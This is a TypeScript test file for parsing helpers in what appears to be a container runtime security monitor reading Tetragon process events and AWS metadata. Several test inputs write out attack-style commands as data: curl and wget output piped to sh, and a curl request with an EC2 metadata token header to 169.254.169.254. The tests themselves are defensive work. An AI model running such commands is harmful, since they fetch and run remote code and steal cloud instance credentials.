import { describe, expect, it } from "vitest";
import { splitShellWords } from "../../src/shell/index.js";
import {
  arnResourceName,
  basename,
  clusterFromTaskArn,
  eksClusterFromLogGroup,
  executableName,
  isoTime,
  normalizeContainerId,
  parseJsonObject,
  splitTetragonArguments,
  toNumber,
} from "../../src/sources/fields.js";

const FALLBACK = Date.UTC(2026, 2, 20, 12, 0, 5);
const FALLBACK_ISO = "2026-03-20T12:00:05.000Z";

describe("source field helpers", () => {
  it.each([
    ["/usr/bin/curl", "curl"],
    ["curl", "curl"],
    ["/tmp/.x/nc/", "nc"],
    ["/tmp/curl (deleted)", "curl"],
    ["memfd:payload (deleted)", "memfd:payload"],
    ["/", ""],
    ["", ""],
  ])("basename(%j) is %j", (path, name) => {
    expect(basename(path)).toBe(name);
  });

  it.each([
    ["the path's basename", "/usr/bin/curl", "curl", "curl", "curl"],
    [
      "the path over a truncated comm",
      "/usr/local/bin/kube-state-metrics",
      "kube-state-metr",
      undefined,
      "kube-state-metrics",
    ],
    ["the applet of a busybox symlink", "/bin/busybox", "wget", "wget", "wget"],
    ["the applet from comm without argv0", "/bin/busybox", "nc", undefined, "nc"],
    ["busybox when invoked as busybox", "/bin/busybox", "busybox", "busybox", "busybox"],
    ["the basename of a renamed copy, not its argv0", "/usr/bin/curl", "healthcheck", "healthcheck", "curl"],
    ["comm without a path", undefined, "nc", undefined, "nc"],
    ["argv0 without path or comm", undefined, undefined, "/usr/bin/wget", "wget"],
    ["nothing", undefined, undefined, undefined, ""],
  ])("executableName takes %s", (_label, path, comm, argv0, name) => {
    expect(executableName(path, comm, argv0)).toBe(name);
  });

  it.each([
    ["containerd://c7761e58969f", "c7761e58969f"],
    ["docker://976f2752ecfd", "976f2752ecfd"],
    ["cri-o://14c2529eb449", "14c2529eb449"],
    ["cri-containerd-c7761e58969f.scope", "c7761e58969f"],
    ["docker-976f2752ecfd.scope", "976f2752ecfd"],
    ["crio-14c2529eb449.scope", "14c2529eb449"],
    [" 5dfb031145db ", "5dfb031145db"],
    ["containerd://", undefined],
    ["", undefined],
    [42, undefined],
    [null, undefined],
  ])("normalizeContainerId(%j) is %j", (raw, id) => {
    expect(normalizeContainerId(raw)).toBe(id);
  });

  it.each([
    ["ISO with nanoseconds", "2026-03-14T09:26:53.589793238Z", "2026-03-14T09:26:53.589Z"],
    ["ISO with an offset", "2026-03-14T11:26:53+02:00", "2026-03-14T09:26:53.000Z"],
    ["ISO with a space", "2026-03-14 09:26:53Z", "2026-03-14T09:26:53.000Z"],
    ["epoch nanoseconds", 1773630765118204700, "2026-03-16T03:12:45.118Z"],
    ["epoch microseconds", 1773630765118204, "2026-03-16T03:12:45.118Z"],
    ["epoch milliseconds", 1773630765118, "2026-03-16T03:12:45.118Z"],
    ["epoch seconds", 1773630765, "2026-03-16T03:12:45.000Z"],
    ["a loose date string", "1", FALLBACK_ISO],
    ["garbage", "yesterday", FALLBACK_ISO],
    ["an impossible date", "2026-13-45T99:99:99Z", FALLBACK_ISO],
    ["a year far away", "9999-01-01T00:00:00Z", FALLBACK_ISO],
    ["zero", 0, FALLBACK_ISO],
    ["a negative number", -5, FALLBACK_ISO],
    ["NaN", Number.NaN, FALLBACK_ISO],
    ["an object", { seconds: 4 }, FALLBACK_ISO],
    ["a huge string", "2026-03-14T09:26:53Z".padEnd(5000, "0"), FALLBACK_ISO],
  ])("isoTime reads %s", (_label, value, iso) => {
    expect(isoTime(FALLBACK, value)).toBe(iso);
  });

  it("isoTime takes the first plausible candidate and survives a broken fallback", () => {
    expect(isoTime(FALLBACK, "no", undefined, "2026-03-14T09:26:53Z")).toBe("2026-03-14T09:26:53.000Z");
    expect(isoTime(Number.NaN, "no")).toBe("1970-01-01T00:00:00.000Z");
    expect(isoTime(8.64e15 + 1)).toBe("1970-01-01T00:00:00.000Z");
  });

  it.each([
    ["curl -s http://x", ["curl", "-s", "http://x"]],
    ['/bin/sh -c "curl -s http://x | sh"', ["/bin/sh", "-c", "curl -s http://x | sh"]],
    ["sh -c 'echo \"a b\"; id'", ["sh", "-c", 'echo "a b"; id']],
    ['echo "a \\"q\\" \\$HOME \\n"', ["echo", 'a "q" $HOME \\n']],
    ["a\\ b c", ["a b", "c"]],
    ["it's", ["its"]],
    ["'unterminated quote here", ["unterminated quote here"]],
    ['say "unterminated', ["say", "unterminated"]],
    ["''", [""]],
    ["  \t\n ", []],
    ["trailing\\", ["trailing\\"]],
  ])("splitShellWords(%j)", (line, words) => {
    expect(splitShellWords(line)).toEqual(words);
  });

  it.each([
    // Tetragon's own ArgsDecoder cases, read back.
    ["a b", ["a", "b"]],
    ['-c "echo a b"', ["-c", "echo a b"]],
    [' "a b" c', ["a b", "c"]],
    // Inner quotes are not escaped by Tetragon: the closing quote is the one before a space or the end.
    ['-c "echo "a b""', ["-c", 'echo "a b"']],
    ['-c "cd /tmp && ./x "$@""', ["-c", 'cd /tmp && ./x "$@"']],
    [
      '-H "X-aws-ec2-metadata-token: AQAE" http://169.254.169.254/',
      ["-H", "X-aws-ec2-metadata-token: AQAE", "http://169.254.169.254/"],
    ],
    // A payload's own quoted words: the close that leaves its inner quotes balanced wins.
    ['-c "curl -s "http://x/a b" | sh"', ["-c", 'curl -s "http://x/a b" | sh']],
    ['-c "wget -qO- "http://x/a" | sh" sh', ["-c", 'wget -qO- "http://x/a" | sh', "sh"]],
    ['"a b" "c d"', ["a b", "c d"]],
    ["a\"b 'c d'", ['a"b', "'c", "d'"]],
    ['"never closed', ["never closed"]],
    ["", []],
  ])("splitTetragonArguments(%j)", (line, words) => {
    expect(splitTetragonArguments(line)).toEqual(words);
  });

  it("splits a megabyte of unbalanced quotes in linear time", () => {
    const line = `"${'a"b "'.repeat(200_000)}`;
    // The outer quotes enclose balanced inner quotes: one argument, the whole line without them.
    expect(splitTetragonArguments(line)).toEqual([line.slice(1, -1)]);
  });

  it.each([
    ['{"a":1}', { a: 1 }],
    ["[1]", null],
    ["null", null],
    ['"x"', null],
    ["{", null],
    ["", null],
  ])("parseJsonObject(%j)", (text, value) => {
    expect(parseJsonObject(text)).toEqual(value);
  });

  it.each([
    [42, 42],
    ["1234", 1234],
    ["-1", -1],
    ["12a", undefined],
    [Number.POSITIVE_INFINITY, undefined],
    [true, undefined],
  ])("toNumber(%j)", (value, number) => {
    expect(toNumber(value)).toBe(number);
  });

  it("reads names out of ARNs and log groups", () => {
    expect(arnResourceName("arn:aws:ecs:us-east-1:123456789012:cluster/prod-api")).toBe("prod-api");
    expect(arnResourceName("prod-api")).toBe("prod-api");
    expect(clusterFromTaskArn("arn:aws:ecs:us-east-1:123456789012:task/prod-api/976f2752ecfd4c08")).toBe(
      "prod-api",
    );
    expect(clusterFromTaskArn("arn:aws:ecs:us-east-1:123456789012:task/976f2752ecfd4c08")).toBeUndefined();
    expect(clusterFromTaskArn("976f2752ecfd4c08")).toBeUndefined();
    expect(eksClusterFromLogGroup("/aws/eks/prod-eks/cluster")).toBe("prod-eks");
    expect(eksClusterFromLogGroup("/aws/containerinsights/prod-eks/application")).toBe("prod-eks");
    expect(eksClusterFromLogGroup("/aws/eks/")).toBeUndefined();
    expect(eksClusterFromLogGroup("/ecs/orders-api")).toBeUndefined();
  });
});
